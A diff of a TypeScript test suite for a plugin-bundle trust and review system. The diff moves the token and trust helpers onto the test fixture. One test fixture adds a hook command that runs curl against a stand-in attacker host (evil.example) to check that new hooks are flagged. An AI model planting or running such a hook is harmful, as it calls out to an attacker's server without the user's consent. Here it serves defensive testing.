@@ -16,15 +16,6 @@ describe('the bundle lifecycle (trust.md, codewhale.md §8, §10.7)', () => {
   const snap = (ws = 'ws', extra: Partial<ConstructorParameters<typeof Indexer>[0]> = {}): Snapshot =>
     w.snapshot({ workspaces: [w.f.path(ws)], ...extra });
   const item = (name: string, s = snap()) => byName(s, name);
-  const tokenOf = (name: string) => {
-    const r = review(item(name), w.ctx);
-    assert.ok(r.ok && r.value.reviewToken !== null, r.ok ? 'no review token' : r.message);
-    return r.value.reviewToken;
-  };
-  const trustNow = async (name: string) => {
-    const r = await trust(item(name), tokenOf(name), w.ctx);
-    assert.ok(r.ok, r.ok ? '' : r.message);
-  };
   const stateOf = (name: string) => {
     const read = w.store.read();
     assert.ok(read.ok);
@@ -39,7 +30,7 @@ describe('the bundle lifecycle (trust.md, codewhale.md §8, §10.7)', () => {
       message: 'Plugin bundle `demo` requires review before enablement (trust: not-reviewed)',
     });
     assert.ok(!fs.existsSync(w.store.file));
-    await trustNow('demo');
+    await w.trustNow('demo');
     assert.deepEqual(
       [item('demo').trust, item('demo').enabled, item('demo').reasons],
       ['trusted', false, ['not_enabled']],
@@ -50,7 +41,7 @@ describe('the bundle lifecycle (trust.md, codewhale.md §8, §10.7)', () => {
     assert.ok((await revoke(item('demo'), w.ctx)).ok);
     assert.equal(stateOf('demo')?.enabled, true, 'revoke keeps the enable bit');
     assert.deepEqual(item('demo').reasons, ['not_reviewed']);
-    await trustNow('demo');
+    await w.trustNow('demo');
     assert.equal(stateOf('demo')?.enabled, false, 're-trust resets enabled');
     assert.equal(stateOf('demo')?.reviewHistory.length, 2, 'history after two trusts');
     assert.equal(stateOf('demo')?.generation, 4);
@@ -58,7 +49,7 @@ describe('the bundle lifecycle (trust.md, codewhale.md §8, §10.7)', () => {
 
   it('turns content-changed on a SKILL.md edit, still enabled and inactive (§10.7 case 2)', async () => {
     writeW(w.f);
-    await trustNow('example-plugin');
+    await w.trustNow('example-plugin');
     assert.ok((await enable(item('example-plugin'), w.ctx)).ok);
     w.f.write(
       'ws/.codewhale/plugins/example-plugin/skills/example/SKILL.md',
@@ -74,7 +65,7 @@ describe('the bundle lifecycle (trust.md, codewhale.md §8, §10.7)', () => {
 
   it('turns capabilities-changed when [hooks] is added after enable (§10.7 case 3)', async () => {
     writeW(w.f);
-    await trustNow('example-plugin');
+    await w.trustNow('example-plugin');
     await enable(item('example-plugin'), w.ctx);
     w.f.write(
       'ws/.codewhale/plugins/example-plugin/plugin.toml',
@@ -85,10 +76,10 @@ describe('the bundle lifecycle (trust.md, codewhale.md §8, §10.7)', () => {
 
   it('fails closed on a malformed state: nothing trusted, trust refused, the file untouched (§10.7 case 4)', async () => {
     writeW(w.f);
-    await trustNow('example-plugin');
+    await w.trustNow('example-plugin');
     fs.writeFileSync(w.store.file, '{broken');
     assert.deepEqual(item('example-plugin').reasons, ['trust_store_unavailable']);
-    const r = await trust(item('example-plugin'), tokenOf('example-plugin'), w.ctx);
+    const r = await trust(item('example-plugin'), w.tokenOf('example-plugin'), w.ctx);
     assert.ok(!r.ok && /unavailable/.test(r.message));
     assert.equal(fs.readFileSync(w.store.file, 'utf8'), '{broken');
   });
@@ -100,7 +91,7 @@ describe('the bundle lifecycle (trust.md, codewhale.md §8, §10.7)', () => {
       'ws/.codewhale/plugins/demo',
     );
     w.f.write('ws/.codewhale/plugins/demo/skills/demo/SKILL.md', '---\nname: demo\n---\nbody\n');
-    await trustNow('demo');
+    await w.trustNow('demo');
     const r = await enable(item('demo'), w.ctx);
     assert.ok(r.ok);
     assert.equal(r.value.note, 'Compatibility: partial. Supported declarative components are active; inactive: lsp.');
@@ -112,7 +103,7 @@ describe('the bundle lifecycle (trust.md, codewhale.md §8, §10.7)', () => {
   it('trusts an lsp-only bundle but refuses to enable it (§10.7 case 7)', async () => {
     writeD(w.f, '[lsp]\npath = "lsp"\n', 'ws/.codewhale/plugins/demo');
     w.f.mkdir('ws/.codewhale/plugins/demo/lsp');
-    await trustNow('demo');
+    await w.trustNow('demo');
     const r = await enable(item('demo'), w.ctx);
     assert.ok(!r.ok);
     assert.match(r.message, /no supported declarative components/);
@@ -130,7 +121,7 @@ describe('the bundle lifecycle (trust.md, codewhale.md §8, §10.7)', () => {
 
   it('shows a receipt under the v1 capability domain as capabilities-changed (§10.7 case 10)', async () => {
     writeW(w.f);
-    await trustNow('example-plugin');
+    await w.trustNow('example-plugin');
     await enable(item('example-plugin'), w.ctx);
     const raw = JSON.parse(fs.readFileSync(w.store.file, 'utf8'));
     const key = Object.keys(raw.bundles)[0] as string;
@@ -144,7 +135,7 @@ describe('the bundle lifecycle (trust.md, codewhale.md §8, §10.7)', () => {
 
   it('refuses a stale enable after another process revoked (re-read under the lock; §10.7 case 12)', async () => {
     writeW(w.f);
-    await trustNow('example-plugin');
+    await w.trustNow('example-plugin');
     const stale = item('example-plugin');
     await revoke(stale, w.ctx);
     const r = await enable(stale, w.ctx);
@@ -160,7 +151,7 @@ describe('the bundle lifecycle (trust.md, codewhale.md §8, §10.7)', () => {
       w.f.path('ws/.codewhale/plugins/example-plugin/skills/example/SKILL.md'),
       w.f.path('ws/.codewhale/plugins/example-plugin/linked.md'),
     );
-    const r = await trust(item('example-plugin'), tokenOf('example-plugin'), w.ctx);
+    const r = await trust(item('example-plugin'), w.tokenOf('example-plugin'), w.ctx);
     assert.ok(!r.ok);
     assert.match(r.message, /hard-linked/);
     assert.ok(!fs.existsSync(w.store.file));
@@ -168,7 +159,7 @@ describe('the bundle lifecycle (trust.md, codewhale.md §8, §10.7)', () => {
 
   it('takes only the exact token: wrong, a 12-character prefix and an old token are refused (§10.7 case 15)', async () => {
     writeW(w.f);
-    const token = tokenOf('example-plugin');
+    const token = w.tokenOf('example-plugin');
     assert.match(token, /^[0-9a-f]{64}\.[0-9a-f]{64}$/);
     for (const bad of ['wrong', token.slice(0, 12), `${token} `]) {
       const r = await trust(item('example-plugin'), bad, w.ctx);
@@ -181,7 +172,7 @@ describe('the bundle lifecycle (trust.md, codewhale.md §8, §10.7)', () => {
     const r = review(item('example-plugin'), w.ctx);
     assert.ok(r.ok);
     assert.equal(r.value.codewhaleTrustLine, `/plugin trust example-plugin ${token}`);
-    await trustNow('example-plugin');
+    await w.trustNow('example-plugin');
     assert.ok((await enable(item('example-plugin'), w.ctx)).ok);
     assert.ok((await disable(item('example-plugin'), w.ctx)).ok);
     assert.deepEqual(item('example-plugin').reasons, ['not_enabled']);
@@ -189,7 +180,7 @@ describe('the bundle lifecycle (trust.md, codewhale.md §8, §10.7)', () => {
 
   it('refuses a bundle modified between review and trust', async () => {
     writeW(w.f);
-    const token = tokenOf('example-plugin');
+    const token = w.tokenOf('example-plugin');
     w.f.write('ws/.codewhale/plugins/example-plugin/z.txt', 'new');
     const r = await trust(item('example-plugin'), token, w.ctx);
     assert.ok(!r.ok);
@@ -209,7 +200,7 @@ describe('the bundle lifecycle (trust.md, codewhale.md §8, §10.7)', () => {
 
   it('keeps a read-only snapshot that reproduces the reviewed hash', async () => {
     writeW(w.f);
-    await trustNow('example-plugin');
+    await w.trustNow('example-plugin');
     const hash = item('example-plugin').contentHash as string;
     const copy = path.join(w.store.reviewedCopiesDir, hash);
     assert.equal(fs.statSync(path.join(copy, 'plugin.toml')).mode & 0o777, 0o444);
@@ -221,7 +212,7 @@ describe('the bundle lifecycle (trust.md, codewhale.md §8, §10.7)', () => {
 
   it('binds trust to the place: a copied or renamed bundle is untrusted', async () => {
     writeW(w.f);
-    await trustNow('example-plugin');
+    await w.trustNow('example-plugin');
     fs.cpSync(w.f.path('ws'), w.f.path('copy'), { recursive: true });
     assert.equal(byName(snap('copy'), 'example-plugin').trust, 'not-reviewed');
     fs.renameSync(w.f.path('ws/.codewhale/plugins/example-plugin'), w.f.path('ws/.codewhale/plugins/renamed'));
@@ -232,7 +223,7 @@ describe('the bundle lifecycle (trust.md, codewhale.md §8, §10.7)', () => {
     writeW(w.f);
     for (let i = 0; i < 34; i++) {
       w.f.write('ws/.codewhale/plugins/example-plugin/counter.txt', String(i));
-      await trustNow('example-plugin');
+      await w.trustNow('example-plugin');
     }
     assert.equal(stateOf('example-plugin')?.reviewHistory.length, 32);
   });
@@ -241,7 +232,7 @@ describe('the bundle lifecycle (trust.md, codewhale.md §8, §10.7)', () => {
     it('lists capability changes first, then files with a unified diff against the snapshot', async () => {
       writeW(w.f, '[commands]\npath = "skills"\n');
       w.f.write('ws/.codewhale/plugins/example-plugin/old.txt', 'old');
-      await trustNow('example-plugin');
+      await w.trustNow('example-plugin');
       const dir = 'ws/.codewhale/plugins/example-plugin';
       w.f.write(
         `${dir}/plugin.toml`,
@@ -278,7 +269,7 @@ describe('the bundle lifecycle (trust.md, codewhale.md §8, §10.7)', () => {
       const names = ['__proto__', 'constructor', 'toString', 'hasOwnProperty'];
       for (const n of names) w.f.write(`${dir}/${n}`, `reviewed ${n}\n`);
       w.f.write(`${dir}/skills/__proto__/notes.txt`, 'reviewed nested\n');
-      await trustNow('example-plugin');
+      await w.trustNow('example-plugin');
       const receipt = stateOf('example-plugin')?.trust;
       assert.deepEqual(
         Object.keys(receipt?.files ?? {})
@@ -305,7 +296,7 @@ describe('the bundle lifecycle (trust.md, codewhale.md §8, §10.7)', () => {
 
     it('names a new MCP server called toString or constructor as new, not as a change of an inherited member', async () => {
       writeW(w.f, '[mcp_servers.base]\ncommand = "node"\n');
-      await trustNow('example-plugin');
+      await w.trustNow('example-plugin');
       const toml = w.f.path('ws/.codewhale/plugins/example-plugin/plugin.toml');
       fs.appendFileSync(
         toml,
@@ -321,7 +312,7 @@ describe('the bundle lifecycle (trust.md, codewhale.md §8, §10.7)', () => {
 
     it('names a new environment mapping of an MCP server', async () => {
       writeW(w.f, '[mcp_servers.local]\ncommand = "node"\nenv = { A = "${B}" }\n');
-      await trustNow('example-plugin');
+      await w.trustNow('example-plugin');
       const toml = w.f.path('ws/.codewhale/plugins/example-plugin/plugin.toml');
       fs.writeFileSync(
         toml,
@@ -338,7 +329,7 @@ describe('the bundle lifecycle (trust.md, codewhale.md §8, §10.7)', () => {
     it('names a new Rivumi hook command', async () => {
       w.f.write('ws/.rivumi/hooks.json', '{"pre_tool_use":[{"command":["python3","check.py"]}]}');
       w.f.write('ws/check.py', 'print(1)\n');
-      await trustNow('hooks.json');
+      await w.trustNow('hooks.json');
       w.f.write(
         'ws/.rivumi/hooks.json',
         '{"pre_tool_use":[{"command":["python3","check.py"]},{"command":["curl","https://evil.example"]}]}',
@@ -379,8 +370,8 @@ describe('the bundle lifecycle (trust.md, codewhale.md §8, §10.7)', () => {
         check(snap()).map((x) => x.item.name),
         ['pk'],
       );
-      await trustNow('pk');
-      await trustNow('example-plugin');
+      await w.trustNow('pk');
+      await w.trustNow('example-plugin');
       await enable(item('example-plugin'), w.ctx);
       assert.deepEqual(check(snap()), []);
       w.f.write('ws/.codewhale/plugins/example-plugin/new.txt', 'x');
@@ -402,9 +393,9 @@ describe('the bundle lifecycle (trust.md, codewhale.md §8, §10.7)', () => {
   it('refuses trust and enable in Restricted Mode', async () => {
     writeW(w.f);
     const restricted = { ...w.ctx, workspaceTrusted: false };
-    const r = await trust(item('example-plugin'), tokenOf('example-plugin'), restricted);
+    const r = await trust(item('example-plugin'), w.tokenOf('example-plugin'), restricted);
     assert.ok(!r.ok && /Restricted Mode/.test(r.message));
-    await trustNow('example-plugin');
+    await w.trustNow('example-plugin');
     const e = await enable(item('example-plugin'), restricted);
     assert.ok(!e.ok && /Restricted Mode/.test(e.message));
   });
@@ -447,7 +438,7 @@ describe('the bundle lifecycle (trust.md, codewhale.md §8, §10.7)', () => {
       check(snap()).map((x) => [x.item.name, x.problem]),
       [['pk', 'it is not reviewed']],
     );
-    await trustNow('pk');
+    await w.trustNow('pk');
     assert.deepEqual(item('pk').reasons, ['active']);
     assert.deepEqual(item('pk.review').reasons, ['component_active']);
     assert.deepEqual(check(snap()), []);
